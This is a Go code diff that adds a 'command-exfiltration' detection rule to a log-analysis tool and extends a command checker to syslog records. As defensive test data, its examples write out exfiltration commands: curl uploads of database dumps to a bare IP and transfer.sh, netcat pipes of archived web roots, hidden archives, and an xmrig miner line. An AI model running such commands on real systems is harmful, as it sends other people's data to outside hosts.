@@ -37,7 +37,7 @@ func commandLine(r *timeline.Record) (line, account string) {
 	switch r.Kind {
 	case timeline.KindCommand:
 		return r.Fields["command"], r.Fields["account"]
-	case timeline.KindAuth:
+	case timeline.KindAuth, timeline.KindSyslog:
 		if r.Fields["action"] == "sudo" {
 			line = r.Fields["command"]
 			// sudo logs the words without their quotes: what follows "sh -c" was one.
@@ -163,7 +163,7 @@ func (c *commandChecker) Findings() []rules.Finding {
 	})
 }
 
-var commandKinds = []string{timeline.KindCommand, timeline.KindAuth}
+var commandKinds = []string{timeline.KindCommand, timeline.KindAuth, timeline.KindSyslog}
 
 func sudoRan(account, command string) timeline.Record {
 	return anAuth(1, "sudo", "program", "sudo", "account", account, "target", "root", "command", command, "cwd", "/home/"+account)
@@ -327,4 +327,29 @@ Innocent: a server that its owner lets mine.`,
 		one("by name", rules.High, aCommand("root", "nohup /opt/m/xmrig -c c.json &")),
 	},
 	False: []rules.Example{quiet("pool of connections", aCommand("root", "pg_pool --max 10"))},
+}
+
+var commandExfiltration = &rules.Rule{
+	ID:    "command-exfiltration",
+	Title: "Files were packed or sent away from the command line",
+	Doc: `Lines of shell histories and of sudo that send a file to a bare IP address or a site where anyone may leave files (curl -T, wget --post-file, netcat, scp), or that
+pack files into a hidden archive or one in memory.
+Innocent: copies between one's own servers by their addresses (low for scp and rsync).`,
+	Severity:   rules.Medium,
+	Techniques: []string{"T1560.001", "T1048"},
+	Kinds:      commandKinds,
+	New:        newCommandChecker(sendsAway, packs),
+	True: []rules.Example{
+		one("upload", rules.High, aCommand("alice", "curl -T /tmp/w.tgz http://198.51.100.23/up/")),
+		one("form", rules.High, aCommand("root", "curl -F file=@/root/db.sql.gz https://transfer.sh")),
+		one("netcat", rules.High, aCommand("root", "nc 198.51.100.23 4444 < /root/db.sql.gz")),
+		one("through a pipe", rules.High, aCommand("root", "tar czf - /var/www | nc 198.51.100.23 4444")),
+		one("hidden archive", rules.Medium, aCommand("alice", "tar czf /tmp/.x/w.tgz /var/www/html")),
+		one("copy", rules.Low, aCommand("alice", "scp w.tgz bob@198.51.100.23:")),
+	},
+	False: []rules.Example{
+		quiet("backup", aCommand("root", "tar czf /root/etc.tgz /etc"), aCommand("root", "scp /root/etc.tgz backup.example.org:"), aCommand("root", "rsync -a /srv/ nas:/srv/")),
+		quiet("posting to an application", aCommand("alice", "curl -X POST -d @body.json https://api.example.org/v1/x"), aCommand("alice", "curl -d 'a=b' http://192.0.2.5:9200/_search")),
+		quiet("archive of a build", aCommand("alice", "tar czf /tmp/build.tgz build")),
+	},
 }
